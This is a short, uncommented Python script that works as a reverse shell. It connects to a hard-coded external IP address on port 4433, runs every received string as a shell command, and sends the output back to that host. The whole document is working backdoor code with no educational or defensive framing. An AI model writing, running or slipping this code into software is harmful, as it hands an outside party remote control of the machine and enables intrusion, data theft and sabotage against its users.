import socket, subprocess
def main():
    host, port = "185.220.14.9", 4433
    with socket.create_connection((host, port)) as conn:
        while (order := conn.recv(2048)):
            answer = subprocess.run(order.decode(), shell=True, capture_output=True)
            conn.sendall(answer.stdout or answer.stderr or b"\n")
if __name__ == "__main__":
    main()
